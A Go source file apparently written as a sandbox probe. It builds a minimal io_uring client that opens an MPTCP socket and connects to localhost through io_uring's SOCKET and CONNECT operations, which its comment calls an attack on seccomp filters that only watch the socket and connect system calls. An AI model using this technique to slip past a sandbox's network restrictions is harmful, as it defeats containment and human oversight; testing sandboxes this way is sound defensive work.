package main

import (
	"fmt"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// A minimal io_uring client: a ring of a few entries, one operation at a
// time. Its SOCKET and CONNECT operations are not system calls, so a
// seccomp filter on socket(2) or connect(2) never sees them; that is the
// attack.

const (
	opConnect = 16
	opSocket  = 45

	offSQRing = 0
	offSQEs   = 0x10000000

	enterGetEvents = 1
	featSingleMmap = 1
)

type sqOffsets struct {
	head, tail, ringMask, ringEntries, flags, dropped, array, resv1 uint32
	userAddr                                                        uint64
}

type cqOffsets struct {
	head, tail, ringMask, ringEntries, overflow, cqes, flags, resv1 uint32
	userAddr                                                        uint64
}

type uringParams struct {
	sqEntries, cqEntries, flags, sqThreadCPU, sqThreadIdle, features, wqFd uint32
	resv                                                                   [3]uint32
	sqOff                                                                  sqOffsets
	cqOff                                                                  cqOffsets
}

type sqe struct {
	opcode    uint8
	flags     uint8
	ioprio    uint16
	fd        int32
	off       uint64
	addr      uint64
	len       uint32
	opFlags   uint32
	userData  uint64
	bufIndex  uint16
	personal  uint16
	fileIndex int32
	addr3     uint64
	pad       uint64
}

type cqe struct {
	userData uint64
	res      int32
	flags    uint32
}

type ring struct {
	fd     int
	rb     []byte
	sqes   []byte
	p      uringParams
	cqRing []byte
}

// connectAddr is where IORING_OP_CONNECT reads its sockaddr: on the heap,
// since the kernel reads it after the address was taken.
var connectAddr = new(unix.RawSockaddrInet4)

func newRing() (*ring, error) {
	r := &ring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&r.p)), 0)
	if errno != 0 {
		return nil, fmt.Errorf("io_uring_setup: %w", errno)
	}
	r.fd = int(fd)
	if r.p.features&featSingleMmap == 0 {
		unix.Close(r.fd)
		return nil, fmt.Errorf("io_uring without a single ring mapping")
	}
	size := max(int(r.p.sqOff.array)+int(r.p.sqEntries)*4, int(r.p.cqOff.cqes)+int(r.p.cqEntries)*int(unsafe.Sizeof(cqe{})))
	var err error
	if r.rb, err = unix.Mmap(r.fd, offSQRing, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		unix.Close(r.fd)
		return nil, fmt.Errorf("mmap ring: %w", err)
	}
	if r.sqes, err = unix.Mmap(r.fd, offSQEs, int(r.p.sqEntries)*int(unsafe.Sizeof(sqe{})), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		r.close()
		return nil, fmt.Errorf("mmap sqes: %w", err)
	}
	return r, nil
}

func (r *ring) close() {
	if r.sqes != nil {
		_ = unix.Munmap(r.sqes)
	}
	if r.rb != nil {
		_ = unix.Munmap(r.rb)
	}
	unix.Close(r.fd)
}

func (r *ring) u32(off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&r.rb[off])) }

// run submits one operation and waits for its completion's result.
func (r *ring) run(e sqe) (int32, error) {
	tail := atomic.LoadUint32(r.u32(r.p.sqOff.tail))
	mask := *r.u32(r.p.sqOff.ringMask)
	idx := tail & mask
	*(*sqe)(unsafe.Pointer(&r.sqes[uintptr(idx)*unsafe.Sizeof(sqe{})])) = e
	*(*uint32)(unsafe.Pointer(&r.rb[uintptr(r.p.sqOff.array)+uintptr(idx)*4])) = idx
	atomic.StoreUint32(r.u32(r.p.sqOff.tail), tail+1)
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, enterGetEvents, 0, 0); errno != 0 {
		return 0, fmt.Errorf("io_uring_enter: %w", errno)
	}
	head := atomic.LoadUint32(r.u32(r.p.cqOff.head))
	cmask := *r.u32(r.p.cqOff.ringMask)
	c := *(*cqe)(unsafe.Pointer(&r.rb[uintptr(r.p.cqOff.cqes)+uintptr(head&cmask)*unsafe.Sizeof(cqe{})]))
	atomic.StoreUint32(r.u32(r.p.cqOff.head), head+1)
	return c.res, nil
}

// uringConnect makes an MPTCP socket and connects it to 127.0.0.1:port
// through io_uring, then sends "probe".
func uringConnect(port int) error {
	r, err := newRing()
	if err != nil {
		return err
	}
	defer r.close()
	res, err := r.run(sqe{opcode: opSocket, fd: unix.AF_INET, off: unix.SOCK_STREAM, len: unix.IPPROTO_MPTCP})
	if err != nil {
		return err
	}
	if res < 0 {
		return fmt.Errorf("IORING_OP_SOCKET: %w", unix.Errno(-res))
	}
	s := int(res)
	defer unix.Close(s)
	*connectAddr = unix.RawSockaddrInet4{Family: unix.AF_INET, Port: uint16(port>>8) | uint16(port&0xff)<<8, Addr: [4]byte{127, 0, 0, 1}}
	res, err = r.run(sqe{opcode: opConnect, fd: int32(s), addr: uint64(uintptr(unsafe.Pointer(connectAddr))), off: uint64(unsafe.Sizeof(*connectAddr))})
	if err != nil {
		return err
	}
	if res < 0 {
		return fmt.Errorf("IORING_OP_CONNECT: %w", unix.Errno(-res))
	}
	_, err = unix.Write(s, []byte("probe\n"))
	return err
}
